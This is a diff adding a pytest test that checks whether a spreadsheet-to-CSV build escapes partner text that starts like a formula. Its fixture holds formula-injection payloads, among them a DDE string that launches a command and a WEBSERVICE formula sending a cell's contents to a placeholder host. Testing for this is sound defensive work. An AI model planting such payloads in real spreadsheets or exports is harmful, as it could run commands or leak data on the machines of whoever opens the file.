@@ -231,3 +231,47 @@ def test_the_reader_pool_leaves_garbage_collection_as_it_found_it(raw, tmp_path)
         assert gc.get_freeze_count() > 0
     finally:
         gc.unfreeze()
+
+
+FORMULA_TEXT = {  # (sheet, field or column): partner text that a spreadsheet would run as a formula
+    ("Partner", "name"): "=HYPERLINK(\"http://example.invalid/x\",\"Food Network\")",
+    ("Partner", "area"): "@SUM(1+1)*cmd|' /C calc'!A0",
+    ("ImpactMap", "outcome"): "=WEBSERVICE(\"http://example.invalid/?\"&A1)",
+    ("ImpactMap", "stakeholder"): "+44 people",
+    ("ImpactMap", "proxy_source"): "-2+3",
+    ("Inputs", "description"): "'already quoted",
+}
+
+
+def plant_formulas(path):
+    import openpyxl
+
+    book = openpyxl.load_workbook(path)
+    for (sheet, name), text in FORMULA_TEXT.items():
+        ws = book[sheet]
+        if sheet == "Partner":
+            cell = ws.cell(row=next(r[0].row for r in ws.iter_rows(min_row=2) if r[0].value == name), column=2)
+        else:
+            cell = ws.cell(row=2, column=next(c.column for c in ws[1] if c.value == name))
+        cell.value = text
+        cell.data_type = "s"  # typed as text, as a partner pasting it would
+    book.save(path)
+    return path
+
+
+def test_partner_text_that_starts_like_a_formula_is_written_as_text_and_read_back_unchanged(tmp_path):
+    raw = tmp_path / "raw"
+    raw.mkdir()
+    plant_formulas(shutil.copy(paths.raw_collection("example") / "food-network.xlsx", raw))
+    assert build(raw, tmp_path / "out").ok
+    written = {name: (tmp_path / "out" / f"{name}.csv").read_text(encoding="utf-8")
+               for name in ("partner", "impact_map", "inputs")}
+    assert "'=HYPERLINK" in written["partner"] and "'@SUM" in written["partner"]
+    assert "'=WEBSERVICE" in written["impact_map"] and "'+44 people" in written["impact_map"]
+    assert "'-2+3" in written["impact_map"] and "''already quoted" in written["inputs"]
+    tables = load_processed(tmp_path / "out")  # what svlib computes with is what the partner wrote
+    lookup = {"Partner": tables["Partner"].iloc[0], "ImpactMap": tables["ImpactMap"].iloc[0],
+              "Inputs": tables["Inputs"].iloc[0]}
+    for (sheet, name), text in FORMULA_TEXT.items():
+        assert lookup[sheet][name] == text, (sheet, name)
+    assert tables["ImpactMap"]["quantity"].dtype == float  # numbers are numbers still
